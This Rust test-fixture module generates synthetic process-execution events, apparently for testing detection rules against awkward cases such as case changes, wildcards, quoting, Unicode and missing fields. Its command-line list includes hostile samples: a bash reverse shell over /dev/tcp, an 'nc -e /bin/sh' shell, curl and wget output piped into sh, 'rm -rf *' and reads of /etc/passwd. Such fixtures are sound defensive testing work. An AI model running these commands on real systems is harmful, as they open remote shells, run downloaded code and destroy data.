//! Executions of every kind that a rule could stumble over: other cases, wildcards, quotes,
//! backslashes, other scripts, what is empty and what is absent.

use serde_json::{Value, json};

const IMAGES: &[&str] = &[
    "/usr/bin/curl",
    "/usr/bin/Curl",
    "/USR/BIN/CURL",
    "/usr/bin/bash",
    "/bin/BASH",
    "/bin/sh",
    "/usr/bin/dash",
    "/usr/bin/id",
    "/usr/bin/wget",
    "/usr/sbin/nginx",
    "/opt/my tools/it's",
    "/tmp/x\\y",
    "/tmp/[a]",
    "/tmp/café",
    "/tmp/ſh",
    "/memfd:x (deleted)",
    "/",
    "bin",
    "/sbin/udev/usx/bin/curl",
];

/// Command lines; each word is an argument, but for what the marks `‹…›` keep together.
const LINES: &[&str] = &[
    "",
    "x",
    "?",
    "🦀",
    "id",
    "ID",
    "curl -s http://127.0.0.1/x",
    "curl -s http://127.0.0.1/X",
    "CURL -S HTTP://127.0.0.1/X",
    "curl -F data http://10.0.0.1:8080/",
    "curl -T  file",
    "curl‹ -d ›x",
    "sh -c ‹curl http://a|sh›",
    "Curl x|SH",
    "curl x | bash",
    "wget http://a -O- | sh",
    "wget",
    "sh -C id",
    "sh -c ‹echo caution\n›",
    "bash -c ‹bash -i >& /dev/tcp/10.0.0.1/4444 0>&1›",
    "sh -c ‹a\nb›",
    "sh -c ‹a\nb\nc›",
    "sh -c ‹a\tb›",
    "rm -rf *",
    "rm -rf \\*",
    "rm -rf a*",
    "rm -rf /x/*",
    "ls ?",
    "ls a?b",
    "echo \\",
    "echo \\\\",
    "echo \\\\*",
    "echo a\\*b",
    "echo 100%",
    "echo a_b",
    "echo a-b",
    "echo [a]",
    "echo [[a]x",
    "echo ]x",
    "echo {x}",
    "echo ${HOME}",
    "echo $HOME",
    "echo $home",
    "echo ${x}",
    "echo ^x",
    "echo a|b",
    "echo A|B",
    "echo a.b",
    "echo aXb",
    "echo c++",
    "echo && ~~",
    "echo && id",
    "echo # x",
    "cat ~/x",
    "cat $(id)",
    "it's ‹a \"quoted\" text›",
    "IT'S ‹A \"QUOTED\" TEXT›",
    "echo ‹›",
    "echo café",
    "echo CAFÉ",
    "echo CAFé",
    "echo cafE\u{301}",
    "echo привет",
    "echo ПРИВЕТ",
    "echo ſ \u{212a} İ",
    "echo s k i",
    "echo x🦀y",
    "echo 8080",
    "find / -exec id",
    "find / /exec id",
    "find / –exec id",
    "find / —Exec id",
    "x -a --b",
    "x /a -/b",
    "x -a b --b",
    "x ―a -–b",
    "echo Zm9vYmFy",
    "echo zm9vYMFY",
    "echo L2Jpbi9iYXNo",
    "echo xL2JpbiTvYmluL2Jhc2g=",
    "echo L2Jpbi9iYXNofg==",
    "echo 9iaW4vYmFza",
    "echo vYmluL2Jhc2",
    "echo VYMLUL2JHC2",
    "echo aHR0cDovL",
    "sudash -c x",
    "s?dash x",
    "s*dash x",
    "passwd root",
    "cat /etc/PASSWD",
    "C:\\Windows\\x.exe",
    "c:\\windows\\X.EXE",
    "echo x y",
    "echo aaabbbccc",
    "echo abcdef",
    "a1b2c",
    "car 9",
    "echo\u{a0}x",
    "echo a\u{200b}b",
    "-bash",
    "nc -e /bin/sh 10.0.0.1 4444",
];

/// What the parent ran: its file and its command line; nothing where there is no parent.
const PARENTS: &[Option<(Option<&str>, &str)>] = &[
    Some((Some("/usr/sbin/nginx"), "nginx: ‹worker process›")),
    Some((Some("/usr/sbin/NGINX"), "nginx: ‹master process› /usr/sbin/nginx")),
    Some((Some("/usr/sbin/sshd"), "sshd: root")),
    Some((Some("/usr/sbin/sshd"), "SSHD: Root@pts/0")),
    Some((Some("/usr/bin/curl"), "curl")),
    Some((Some("/tmp/w*rker"), "")),
    Some((None, "worker")),
    Some((Some("/"), "Worker master process")),
    None,
];

const USERS: &[Option<&str>] = &[
    Some("root"),
    Some("ROOT"),
    Some("www-data"),
    Some("Www-Data"),
    Some("w?w-data"),
    Some(""),
    None,
];

const CWDS: &[Option<&str>] = &[
    Some("/var/www"),
    Some("/VAR/WWW"),
    Some("/home/a/www"),
    Some("/tmp/Tmp"),
    Some("/usr/bin/curl"),
    Some("/"),
    Some("/srv/a*b?c"),
    None,
];

const UIDS: &[u32] = &[0, 33, 1000, 65534];

/// The arguments of a command line.
fn words(line: &str) -> Vec<String> {
    let mut words = Vec::new();
    let mut word: Option<String> = None;
    let mut kept = false;
    for c in line.chars() {
        match c {
            '‹' | '›' => {
                kept = c == '‹';
                word.get_or_insert_default();
            }
            ' ' if !kept => words.extend(word.take()),
            c => word.get_or_insert_default().push(c),
        }
    }
    words.extend(word);
    words
}

/// All of them; each is a process of its own.
pub(super) fn all() -> Vec<Value> {
    let mut events = Vec::new();
    for round in 0..4 {
        for (number, line) in LINES.iter().enumerate() {
            let pid = 100 + events.len();
            // Neighbours differ in everything, and each round joins others.
            let at = |step: usize, len: usize| (number * step + round * (step + 1)) % len;
            let parent = PARENTS[at(1, PARENTS.len())];
            let ancestry = parent.map(|(exe, line)| {
                json!({
                    "pid": 50, "start": "2026-11-24T08:00:00.000000000Z", "comm": "parent",
                    "exe": exe, "args": words(line), "alive": true,
                })
            });
            let image = IMAGES[at(3, IMAGES.len())];
            let comm: String = image.rsplit('/').next().unwrap_or("").chars().take(15).collect();
            events.push(json!({
                "type": "event", "kind": "exec", "host": "host-1",
                "time": format!("2026-11-24T08:{:02}:{:02}.000000000Z", pid / 60 % 60, pid % 60),
                "seq": pid, "cpu": 0, "boot_ns": pid * 1_000_000_000, "seeded": false,
                "process": {
                    "pid": pid, "start": "2026-11-24T08:00:01.000000000Z",
                    "start_boot_ns": pid * 1_000_000_000, "ppid": if parent.is_some() { 50 } else { 1 },
                    "uid": UIDS[at(5, UIDS.len())], "user": USERS[at(2, USERS.len())],
                    "gid": 0, "session": 1, "tty": false, "cgroup": 1,
                    "namespaces": {"mnt": 1, "pid": 1, "net": 1, "user": 1},
                    "comm": comm, "cwd": CWDS[at(7, CWDS.len())],
                    "args": words(line), "args_truncated": false,
                    "invoked_as": image, "interpreter": null,
                    "exe": {
                        "path": image, "path_truncated": false, "device": "254:0",
                        "inode": pid, "generation": 0,
                        "changed": "2025-04-28T14:11:48.000000000Z", "size": 1000,
                        "mode": 33261, "links": 1, "sha256": null, "build_id": null,
                        "deleted": false, "memfd": false, "package": null,
                    },
                },
                "ancestry": ancestry.into_iter().collect::<Vec<_>>(),
            }));
        }
    }
    events
}
